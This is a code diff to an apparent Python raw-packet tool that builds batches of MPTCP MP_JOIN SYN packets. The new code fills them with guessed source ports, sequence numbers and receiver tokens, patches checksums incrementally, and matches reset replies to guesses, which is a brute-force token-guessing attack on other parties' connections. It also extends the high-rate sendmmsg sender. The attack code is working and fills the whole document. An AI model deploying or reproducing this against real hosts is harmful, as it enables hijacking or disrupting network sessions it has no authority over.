@@ -44,6 +44,7 @@ PKT_LEN = IP_HDR + TCP_HDR
 TOKEN_OFF = IP_HDR + _TCP.size + 8  # receiver's token inside the MP_JOIN option
 CSUM_OFF = IP_HDR + 16
 SPORT_OFF = IP_HDR
+SEQ_OFF = IP_HDR + 4
 
 
 def _sum16(data: bytes) -> int:
@@ -152,6 +153,32 @@ class JoinSynBatch(PacketBuffer):
         self._base = [_fold((~struct.unpack_from("!H", p, CSUM_OFF)[0]) & 0xFFFF)
                       for p in pkts]
         self.tokens: list[int] = [0] * n
+        # The same sum for source port 0, sequence 0, token 0 (all else is equal across
+        # the batch): ``set_guesses`` patches all three.
+        zero = join_syn(src, dst, 0, dport, 0, nonce, seq=0, addr_id=addr_id, backup=backup)
+        self._zero = _fold((~struct.unpack_from("!H", zero, CSUM_OFF)[0]) & 0xFFFF)
+
+    def set_guesses(self, sports: Sequence[int], seqs: Sequence[int],
+                    tokens: Sequence[int]) -> int:
+        """Write up to ``n`` (source port, sequence number, token) triples into the packets,
+        checksums fixed incrementally; return how many were written. Distinct (port,
+        sequence) pairs let each answer (a reset acknowledges sequence + 1) be matched to
+        its guess."""
+        view, size, zero = self.view, self.size, self._zero
+        pack = struct.pack_into
+        count = min(self.n, len(sports), len(seqs), len(tokens))
+        for i in range(count):
+            sp, sq, tok = sports[i] & 0xFFFF, seqs[i] & 0xFFFFFFFF, tokens[i] & 0xFFFFFFFF
+            s = zero + sp + (sq >> 16) + (sq & 0xFFFF) + (tok >> 16) + (tok & 0xFFFF)
+            s = (s & 0xFFFF) + (s >> 16)
+            s = (s & 0xFFFF) + (s >> 16)
+            off = i * size
+            pack("!H", view, off + SPORT_OFF, sp)
+            pack("!I", view, off + SEQ_OFF, sq)
+            pack("!I", view, off + TOKEN_OFF, tok)
+            pack("!H", view, off + CSUM_OFF, (~s) & 0xFFFF)
+            self.tokens[i] = tok
+        return count
 
     def set_tokens(self, tokens: Iterable[int]) -> int:
         """Write up to ``n`` tokens into the packets; return how many were written (the
@@ -189,13 +216,15 @@ class RawSender:
     def close(self) -> None:
         self.sock.close()
 
-    def send_batch(self, batch: PacketBuffer, count: int | None = None) -> int:
-        """Send the first ``count`` (default all) packets of ``batch`` with sendmmsg;
-        return how many the kernel took. ENOBUFS/EAGAIN end the call early (counted)."""
+    def send_batch(self, batch: PacketBuffer, count: int | None = None,
+                   start: int = 0) -> int:
+        """Send packets ``start`` .. ``count`` - 1 (default: all) of ``batch`` with
+        sendmmsg; return how many the kernel took. ENOBUFS/EAGAIN end the call early (the
+        caller may send the rest from ``start`` + the count returned)."""
         count = batch.n if count is None else min(count, batch.n)
         fn = _sendmmsg()
         fd = self.sock.fileno()
-        done = 0
+        done = start
         while done < count:
             r = fn(fd, ctypes.byref(batch.msgs[done]), count - done, 0)
             if r < 0:
@@ -204,8 +233,8 @@ class RawSender:
                     break
                 raise OSError(err, os.strerror(err))
             done += r
-        self.sent += done
-        return done
+        self.sent += done - start
+        return done - start
 
     def send(self, packets: Sequence[bytes], dst: str) -> int:
         """Send ready packets one ``sendto`` each (the simple path)."""
